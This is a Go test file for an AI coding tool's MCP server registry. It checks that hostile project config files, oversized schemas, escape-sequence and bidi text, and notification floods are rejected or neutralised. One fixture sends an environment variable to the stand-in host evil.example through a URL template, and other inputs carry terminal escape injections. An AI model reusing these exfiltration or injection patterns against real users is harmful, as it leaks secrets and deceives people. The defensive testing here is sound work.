package mcp

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/sys/unix"

	"zcoder/tools"
)

// many repeats a pattern that has one number.
func many(n int, pattern string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, pattern, i)
	}
	return b.String()
}

// TestNormaliseReadsEachPartAFewTimes has schemas whose references multiply. Without a
// bound on the work the first takes many minutes.
func TestNormaliseReadsEachPartAFewTimes(t *testing.T) {
	list := func(ref string) string {
		return `{"anyOf":[` + strings.TrimSuffix(strings.Repeat(`{"$ref":"#/$defs/`+ref+`"},`, 64), ",") + `]}`
	}
	for name, schema := range map[string]string{
		"references to lists of references": `{"$defs":{"a":` + list("b") + `,"b":` + list("c") + `,"c":{"properties":{` + many(8000, `"q%d":{},`) + `"z":{}}}},"allOf":[{"$ref":"#/$defs/a"}]}`,
		"many references to one part":       `{"properties":{` + many(256, `"p%d":{"$ref":"#/$defs/x"},`) + `"z":{}},"$defs":{"x":{"properties":{` + many(15000, `"q%d":{},`) + `"z":{}}}}}`,
		"many properties, all required":     `{"properties":{` + many(9000, `"q%d":{},`) + `"z":{}},"required":[` + many(9000, `"q%d",`) + `"z"]}`,
	} {
		if len(schema) > maxSource {
			t.Fatalf("%s: the schema is too large to be read at all", name)
		}
		checkSchema(t, name, normalise(json.RawMessage(schema)))
	}
	// A schema that is in order is read whole.
	schema := `{"properties":{` + many(40, `"p%d":{"$ref":"#/$defs/x"},`) + `"z":{}},"$defs":{"x":{"type":"object","properties":{"y":{"type":"string"}}}}}`
	if got := string(normalise(json.RawMessage(schema))); strings.Count(got, `{"type":"object","properties":{"y":{"type":"string"}}}`) != 40 {
		t.Errorf("a schema with 40 references became %s", got)
	}
}

// TestFilesThatAreNotRead has registry files of a project that must not hang, fill the
// memory or be read through a link.
func TestFilesThatAreNotRead(t *testing.T) {
	text := `{"mcpServers":{"s":{"command":"true"}}}`
	for name, c := range map[string]struct {
		make func(path string) error
		want string // part of the problem
	}{
		"a link": {func(path string) error {
			if err := os.WriteFile(path+".real", []byte(text), 0o600); err != nil {
				return err
			}
			return os.Symlink(path+".real", path)
		}, "it is a link"},
		"a pipe":      {func(path string) error { return unix.Mkfifo(path, 0o600) }, "not a regular file"},
		"a directory": {func(path string) error { return os.Mkdir(path, 0o700) }, "not a regular file"},
		"100 MB": {func(path string) error {
			if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
				return err
			}
			return os.Truncate(path, 100<<20)
		}, "at most 1 MiB"},
		"twice":                   {with(`{"mcpServers":{},"mcpServers":{"s":{"command":"true"}}}`), "stands twice"},
		"twice in another case":   {with(`{"mcpServers":{"s":{"command":"true"},"S":{"command":"true"}}}`), "stands twice"},
		"twice, with an escape":   {with(`{"mcpServers":{"s":{"command":"true"},"\u0073":{"command":"true"}}}`), "stands twice"},
		"twice, by the long s":    {with(`{"mcpServers":{"s":{"command":"true"},"ſ":{"command":"true"}}}`), "stands twice"},
		"a hundred thousand keys": {with(`{` + many(80000, `"k%d":1,`) + `"mcpServers":{"s":{"command":"true"},"s":{}}}`), "stands twice"},
		"two objects":             {with(text + text), "text after the object"},
		"not UTF-8":               {with("{\"mcpServers\":{\"\xff\":{}}}"), "not UTF-8"},
		"deep":                    {with(strings.Repeat(`{"a":`, 20000) + "1" + strings.Repeat("}", 20000)), "exceeded max depth"},
	} {
		t.Run(name, func(t *testing.T) {
			b := newBench(t)
			if err := c.make(filepath.Join(b.root, ProjectFile)); err != nil {
				t.Fatal(err)
			}
			h := b.open()
			if got := strings.Join(h.Problems(), "\n"); !strings.Contains(got, c.want) {
				t.Errorf("problems = %.300q; want %q", got, c.want)
			}
			if len(h.Servers()) != 0 {
				t.Errorf("it has servers: %v", h.Servers())
			}
			if _, err := h.Review(""); err == nil {
				t.Error("it can be approved")
			}
		})
	}
}

func with(text string) func(path string) error {
	return func(path string) error { return os.WriteFile(path, []byte(text), 0o600) }
}

func TestNamesInsideAnEntryStandOnce(t *testing.T) {
	for entry, want := range map[string]string{
		`{"command":"x","env":{"A":"1","A":"2"}}`:                      `"env" must map names to texts: the name "A" stands twice`,
		`{"command":"x","env":{"http_proxy":"1","HTTP_PROXY":"2"}}`:    "",
		`{"url":"https://x/","headers":{"A":"1","a":"2"}}`:             `"headers" must map names to texts: the name "a" stands twice`,
		`{"url":"https://x/","oauth":{"clientId":"1","ClientID":"2"}}`: `stands twice`,
	} {
		_, err := parseServer("s", Project, json.RawMessage(entry))
		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
			t.Errorf("%s: %v; want %q", entry, err, want)
		}
	}
}

func TestToolsWithoutUsableNamesAreLeftOut(t *testing.T) {
	b := newBench(t)
	set, args := toolsFile(t, b)
	set(`[{"name":"get_ok"},{"name":"get_a\n  read      get_b"},{"name":"get_\u001b[8m"},{"name":"get_\u202e"},{"name":"get_\u200b"},{"name":"` +
		strings.Repeat("x", 300) + `"},{"name":""},{"name":7},7,{"name":"get_big","description":"` + strings.Repeat("x", maxDefinition) + `"}]`)
	b.write(User, "s", b.entry("", args...))
	h := b.run()
	if got := names(offered(t, h)); got != "mcp__s__get_ok" {
		t.Errorf("tools = %s", got)
	}
	rv, err := h.ReviewTools(t.Context(), "s")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Count(rv.Text, "\n") != 2 {
		t.Errorf("the review has rows that a name drew:\n%s", rv.Text)
	}
	log, err := h.Logs("s")
	if err != nil || !slices.ContainsFunc(log, func(l string) bool { return strings.Contains(l, "is no usable name") }) {
		t.Errorf("the log does not tell: %q, %v", log, err)
	}
}

func TestStormsOfNotifications(t *testing.T) {
	b := newBench(t)
	b.write(User, "s", b.entry(`"requestTimeout":20`))
	h := b.run()
	tool := offered(t, h)["mcp__s__echo"]
	if res := call(t.Context(), t, tool, `{"text":"","do":"storm","n":5000}`, nil); res.Text != "stormed" {
		t.Errorf("a storm of changes: %+v", res)
	}
	if o := h.Refresh(t.Context()); len(o.Tools) != 4 || o.Changed != "" {
		t.Errorf("after it %d tools are offered, %q", len(o.Tools), o.Changed)
	}
	var lines []string
	res := call(t.Context(), t, tool, `{"text":"\u001b[31mred\nline","do":"flood","n":5000}`, func(line string) { lines = append(lines, line) })
	if res.Text != "flooded" || len(lines) == 0 || len(lines) > 2000 {
		t.Errorf("a flood of progress: %+v, %d lines", res, len(lines))
	}
	for _, line := range lines {
		if len(line) > 300 || strings.Contains(line, "\x1b") {
			t.Fatalf("progress line %q", line)
		}
	}
}

// TestAServerThatNoLongerListsItsTools says that they changed and then nothing more.
func TestAServerThatNoLongerListsItsTools(t *testing.T) {
	b := newBench(t)
	b.write(User, "s", b.entry(`"requestTimeout":0.3`))
	h := b.run()
	tool := offered(t, h)["mcp__s__echo"]
	if res := call(t.Context(), t, tool, `{"text":"","do":"deaf"}`, nil); res.Text != "deaf now" {
		t.Fatalf("%+v", res)
	}
	if res := call(t.Context(), t, tool, `{"text":"x"}`, nil); res.Status != tools.Failed || !strings.Contains(res.Text, "did not answer within 300ms") {
		t.Errorf("a call after it: %+v", res)
	}
}

func TestWhatAServerSaysDrawsNothing(t *testing.T) {
	b := newBench(t)
	b.write(User, "s", b.entry(""))
	h := b.run()
	res := call(t.Context(), t, offered(t, h)["mcp__s__echo"], `{"text":"\u001b]0;x\u0007red\u202e"}`, nil)
	if res.Text != "echo: \x1b]0;x\x07red\u202e" {
		t.Errorf("the model gets %q", res.Text)
	}
	if res.Line != "echo: red" {
		t.Errorf("the line for people is %q", res.Line)
	}
	text, err := h.Ask(t.Context(), "s", "review", map[string]string{"file": "a\x1b[2Jb\u202ec\n/quit"}, 8192)
	if err != nil || text != "Please review abc\n/quit" {
		t.Errorf("a prompt becomes %q, %v", text, err)
	}
}

func TestManyServersThatNobodyApproved(t *testing.T) {
	b := newBench(t)
	b.file(Project, `{"mcpServers":{`+many(20000, `"server-%d":{"command":"true"},`)+`"last":{"command":"true"}}}`)
	h := b.open()
	if got := strings.Join(h.Notices(), "\n"); len(got) > 500 || !strings.Contains(got, "and 19995 more") {
		t.Errorf("the notice has %d bytes: %.300s", len(got), got)
	}
}

func TestTrustSaysWhichVariablesAreSent(t *testing.T) {
	b := newBench(t)
	b.env["MY_SESSION"] = "value"
	b.file(Project, `{"mcpServers":{"s":{"url":"https://evil.example/${MY_SESSION}"}}}`)
	rv, err := b.open().Review("")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(rv.Text, "! note   SENDS THE VALUE OF YOUR VARIABLE MY_SESSION") || strings.Contains(rv.Text, "example/value") {
		t.Errorf("the trust text:\n%s", rv.Text)
	}
}

// FuzzResult reads results of calls. Whatever they hold, what the model gets is valid
// UTF-8, not empty, and of bounded parts.
func FuzzResult(f *testing.F) {
	for _, seed := range []string{
		`{"content":[{"type":"text","text":"a"},{"type":"image","data":"AAAA","mimeType":"image/png"},7,null]}`,
		`{"content":[{"type":"resource","resource":{"uri":"x","blob":"AAAA","mimeType":"image/png"}}],"isError":true}`,
		`{"content":{},"structuredContent":{"b":1,"a":[2.50]}}`, `{"structuredContent":[1,`, `null`, `[]`, "{\"content\":[{\"type\":\"text\",\"text\":\"\xff\"}]}",
		`{"resultType":"input_required"}`, `{"content":[` + strings.Repeat(`{},`, 600) + `{}]}`,
	} {
		f.Add([]byte(seed))
	}
	h := &Hub{o: Options{MaxOutput: 2000, Vision: func() bool { return true }}}
	f.Fuzz(func(t *testing.T, raw []byte) {
		res := h.result(raw)
		if res.Text == "" || !utf8.ValidString(res.Text) || !utf8.ValidString(res.Line) {
			t.Errorf("text %q, line %q", res.Text, res.Line)
		}
		if n := utf8.RuneCountInString(res.Text); n > 2200 || len(res.Images) > maxImages {
			t.Errorf("%d characters and %d images", n, len(res.Images))
		}
		if strings.ContainsAny(res.Line, "\x1b\u202e") {
			t.Errorf("line %q", res.Line)
		}
	})
}

// FuzzSplit divides what entries hold into words: each once, none empty, bounded, the
// same each time.
func FuzzSplit(f *testing.F) {
	for _, seed := range []string{"sh -c 'exec ./x'", "--require=./a,b:c", "-r./x @file file:///y", "\x00", strings.Repeat("a b ", 2000)} {
		f.Add(seed, "x=y")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		split := func() []string { return (&gatherer{left: maxWords}).split([]string{a, b}) }
		words := split()
		seen := map[string]bool{}
		for _, w := range words {
			if w == "" || seen[w] || len(w) > 4096 || strings.ContainsRune(w, 0) {
				t.Errorf("word %q", w)
			}
			seen[w] = true
		}
		if len(words) > maxWords || !slices.Equal(words, split()) {
			t.Errorf("%d words", len(words))
		}
	})
}
